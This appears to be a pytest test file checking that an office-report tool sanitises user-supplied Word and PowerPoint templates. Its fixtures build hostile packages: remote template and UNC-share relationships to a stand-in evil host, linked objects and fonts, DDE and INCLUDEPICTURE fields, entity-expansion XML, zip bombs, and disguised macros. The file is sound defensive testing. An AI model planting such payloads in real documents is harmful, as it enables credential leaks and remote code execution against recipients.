"""An office's own template may come from anybody: nothing outside it is fetched, and its size stays within limits."""

import io
import subprocess
import sys
import zipfile

import pytest
from docx import Document
from pptx import Presentation

from npfdesk.cli import main
from npfdesk.locations import sample_workbook
from npfdesk.plan.problems import Problem
from npfdesk.report.office_templates import sound_template
from npfdesk.workbook.files import limits

RELATION = (
    '<Relationship Id="{id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
    'Target="{address}" TargetMode="External"/></Relationships>'
)
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
)
OFFICE = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def blank(form):
    stream = io.BytesIO()
    if form == ".docx":
        made = Document()
        made.sections[0].header.paragraphs[0].text = "某市发展和改革局"
    else:
        made = Presentation()
    made.save(stream)
    return stream.getvalue()


def changed(content, change, added=()):
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
        for name, part in added:
            new.writestr(name, part)
    return out.getvalue()


def related(content, part, kind, address, mention):
    """The template with one relation more, and the place that mentions it."""
    folder, _, name = part.rpartition("/")
    rels = f"{folder}/_rels/{name}.rels"
    relation = RELATION.format(id="rIdAway", kind=kind, address=address)
    there = rels in zipfile.ZipFile(io.BytesIO(content)).namelist()

    def change(name, old):
        if name == rels:
            return old.replace(b"</Relationships>", relation.encode())
        return mention(old) if name == part else old

    return changed(
        content, change, [] if there else [(rels, RELATIONS.replace("</Relationships>", relation))]
    )


def before_end(tag, xml):
    """Puts an element before the last end of another."""

    def mention(part):
        at = part.rindex(f"</{tag}>".encode())
        return part[:at] + xml.encode() + part[at:]

    return mention


PICTURE = (
    f'<p:pic {OFFICE}><p:nvPicPr><p:cNvPr id="90" name="x"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>'
    '<a:blip r:link="rIdAway"/></p:blipFill><p:spPr/></p:pic>'
)
AWAY = {
    "attached template": (".docx", "word/settings.xml", "attachedTemplate", "http://evil.invalid/a.dotm", before_end("w:settings", f'<w:attachedTemplate {OFFICE} r:id="rIdAway"/>')),
    "attached on a share": (".docx", "word/settings.xml", "attachedTemplate", "\\\\evil.invalid\\share\\a.dotm", before_end("w:settings", f'<w:attachedTemplate {OFFICE} r:id="rIdAway"/>')),
    "linked picture": (".pptx", "ppt/slideMasters/slideMaster1.xml", "image", "http://evil.invalid/a.png", before_end("p:spTree", PICTURE)),
    "linked object": (".pptx", "ppt/slideLayouts/slideLayout1.xml", "oleObject", "file:///c:/a.xlsx", before_end("p:spTree", f'<p:graphicFrame {OFFICE}><p:oleObj r:id="rIdAway"/></p:graphicFrame>')),
    "a link to a file": (".pptx", "ppt/slideMasters/slideMaster1.xml", "hyperlink", "file://evil.invalid/a", before_end("p:spTree", f'<p:x {OFFICE}><a:hlinkClick r:id="rIdAway"/></p:x>')),
    "linked font": (".docx", "word/fontTable.xml", "font", "http://evil.invalid/a.odttf", before_end("w:fonts", f'<w:font w:name="q"><w:embedRegular {OFFICE} r:id="rIdAway"/></w:font>')),
}  # fmt: skip


def all_of(content):
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        return {name: parts.read(name) for name in parts.namelist()}


@pytest.mark.parametrize("case", AWAY)
def test_what_lies_elsewhere_is_dropped_with_what_shows_it_and_told(tmp_path, capsys, case):
    form, part, kind, address, mention = AWAY[case]
    template = tmp_path / f"局{form}"
    template.write_bytes(related(blank(form), part, kind, address, mention))
    sound = sound_template(template.name, template.read_bytes())
    (told,) = sound.dropped
    assert (told.code, told.severity) == ("template_reaches_out", "warning")
    for language in ("zh", "en"):
        for said in (template.name, part, address):
            assert said in told.message(language)
    out = tmp_path / f"报告{form}"
    assert (
        main(
            [
                "report",
                str(sample_workbook()),
                "-o",
                str(out),
                "--template",
                str(template),
                "--language",
                "en",
            ]
        )
        == 0
    )
    assert address in capsys.readouterr().err
    for name, content in {**all_of(sound.content), **all_of(out.read_bytes())}.items():
        assert b"evil.invalid" not in content, name
        assert b"rIdAway" not in content, name
    (Document if form == ".docx" else Presentation)(str(out))


@pytest.mark.parametrize("form", [".docx", ".pptx"])
def test_a_sound_template_is_taken_as_it_is(form):
    content = blank(form)
    sound = sound_template("a", content)
    assert (sound.dropped, all_of(sound.content)) == ((), all_of(content))


def test_a_link_that_a_reader_clicks_is_kept():
    mention = before_end("w:p", f'<w:hyperlink {OFFICE} r:id="rIdAway"><w:r><w:t>a</w:t></w:r></w:hyperlink>')
    content = related(blank(".docx"), "word/header1.xml", "hyperlink", "https://www.example.org/", mention)
    sound = sound_template("a", content)
    assert sound.dropped == ()
    assert b"https://www.example.org/" in all_of(sound.content)["word/_rels/header1.xml.rels"]


@pytest.mark.parametrize(
    "field",
    [
        f'<w:fldSimple {W} w:instr=" INCLUDEPICTURE &quot;http://evil.invalid/a.png&quot;"/>',
        "<w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\evil.invalid</w:instrText></w:r>",
    ],
)
def test_fields_that_read_from_elsewhere_say_nothing_any_more(field):
    content = changed(
        blank(".docx"),
        lambda name, part: before_end("w:p", field)(part) if name == "word/header1.xml" else part,
    )
    sound = sound_template("a", content)
    assert [one.arguments["part"] for one in sound.dropped] == ["word/header1.xml"]
    assert b"evil" not in all_of(sound.content)["word/header1.xml"]


def refused(content, code, name="局.docx"):
    problem = sound_template(name, content)
    assert isinstance(problem, Problem), problem
    assert problem.code == code
    for language in ("zh", "en"):
        assert name in problem.message(language)
        assert "{" not in problem.message(language)


ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "xxxxxxxxxx"><!ENTITY y "&x;&x;&x;&x;&x;&x;&x;&x;">]>'
    b"<w:styles xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'>&y;</w:styles>"
)


@pytest.mark.parametrize(
    ("name", "part", "code"),
    [
        ("word/styles.xml", ENTITIES, "template_declares_entities"),
        ("word/styles.xml", b"<a>" * 300 + b"</a>" * 300, "template_too_large"),
        ("word/styles.xml", b"<a>" + b"<b/>" * 500_000 + b"</a>", "template_too_large"),
        ("word/styles.xml", b"<a " + b" ".join(b"x%d=''" % n for n in range(500_000)) + b"/>", "template_too_large"),
        ("word/styles.xml", b"<a>" + b"<!---->" * 500_000 + b"</a>", "template_too_large"),
        ("word/styles.xml", b"<a>" + b"q" * 2**26 + b"</a>", "template_inflates_too_far"),
        ("word/styles.xml", b"<a>", "bad_template"),
    ],
    ids=["entities", "depth", "elements", "attributes", "comments", "bomb", "unsound"],
)  # fmt: skip
def test_hostile_xml_is_refused(name, part, code):
    refused(changed(blank(".docx"), lambda one, old: part if one == name else old), code)


def test_too_many_parts_too_much_and_too_deep():
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w") as parts:
        for number in range(limits.ENTRIES + 1):
            parts.writestr(f"a{number}", b"")
    refused(many.getvalue(), "template_too_large")
    refused(bytes(limits.TEMPLATE_BYTES + 1), "template_too_large")
    inner = blank(".docx")
    for _ in range(4):
        inner = changed(blank(".docx"), lambda _, old: old, [("word/embeddings/a.docx", inner)])
    refused(inner, "template_too_large")


def test_an_embedded_workbook_is_looked_into():
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as parts:
        parts.writestr("xl/a.bin", bytes(2**26))
    content = changed(blank(".pptx"), lambda _, old: old, [("ppt/embeddings/a.xlsx", bomb.getvalue())])
    refused(content, "template_inflates_too_far", "局.pptx")


def test_what_the_package_calls_xml_is_xml_whatever_its_name():
    said = b'<Override PartName="/word/q.bin" ContentType="application/vnd.x+xml"/></Types>'
    content = changed(
        blank(".docx"),
        lambda name, old: old.replace(b"</Types>", said) if name == "[Content_Types].xml" else old,
        [("word/q.bin", ENTITIES)],
    )
    refused(content, "template_declares_entities")


@pytest.mark.parametrize(
    ("old", "new", "added"),
    [
        (b"wordprocessingml.document.main+xml", b"MS-word.template.macroEnabledTemplate.main+xml", []),
        (b"nothing", b"nothing", [("word/vbaProject.bin", b"x")]),
        (b"nothing", b"nothing", [("word/activeX/activeX1.xml", b"<a/>")]),
    ],
)
def test_macros_under_another_name_are_refused(old, new, added):
    content = changed(
        blank(".docx"),
        lambda name, part: part.replace(old, new) if name == "[Content_Types].xml" else part,
        added,
    )
    refused(content, "template_has_macros")


def test_a_refused_template_leaves_nothing_written(tmp_path, capsys):
    template, out = tmp_path / "局.docx", tmp_path / "报告.docx"
    template.write_bytes(
        changed(blank(".docx"), lambda name, old: ENTITIES if name == "word/styles.xml" else old)
    )
    assert (
        main(
            [
                "report",
                str(sample_workbook()),
                "-o",
                str(out),
                "--template",
                str(template),
                "--language",
                "en",
            ]
        )
        == 2
    )
    assert "document type declaration" in capsys.readouterr().err
    assert not out.exists()


_LOOK = """
import resource, sys
from pathlib import Path
from npfdesk.report.office_templates import sound_template
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
found = sound_template("a", Path(sys.argv[1]).read_bytes())
print(getattr(found, "code", "sound"), (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024)
"""


@pytest.mark.parametrize("size", [300_000, 60_000_000])
def test_memory_stays_within_bounds(tmp_path, size):
    """A file of 3 MB that inflates to gigabytes, and the largest that is let through."""
    path = tmp_path / "局.docx"
    body = b"<a>" + b"<b c='d'>e</b>" * (size // 14) + b"</a>"
    path.write_bytes(changed(blank(".docx"), lambda name, old: body if name == "word/styles.xml" else old))
    told = subprocess.run(
        [sys.executable, "-c", _LOOK, str(path)], capture_output=True, text=True, check=True
    )
    code, megabytes = told.stdout.split()
    assert code in ("sound", "template_too_large", "template_inflates_too_far")
    assert int(megabytes) < 300
